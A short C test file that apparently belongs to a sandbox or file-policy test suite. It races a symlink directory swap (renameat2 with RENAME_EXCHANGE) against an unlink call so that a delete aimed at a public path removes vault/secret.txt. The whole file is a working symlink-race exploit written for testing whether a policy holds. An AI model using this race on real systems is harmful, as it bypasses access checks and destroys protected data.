/* technique: exchanges the directory above a name while it is removed
 * source: unlinkat(2); symlink races of rm(1)
 * success: vault/secret.txt is gone
 * policy: kept
 * control: permissive
 * races: 2
 * event: FileDelete
 */
#include "attack.h"
#include "race.h"

static void swap(bool forbidden)
{
	(void)forbidden;
	renameat2(AT_FDCWD, "way", AT_FDCWD, "other", RENAME_EXCHANGE);
}

static void attempt(void)
{
	if (symlink("vault", "way") == 0)
		failed(symlink("public", "other") ? "symlink" : "began");
	unlink("way/secret.txt");
}

int main(void)
{
	return race(swap, attempt);
}
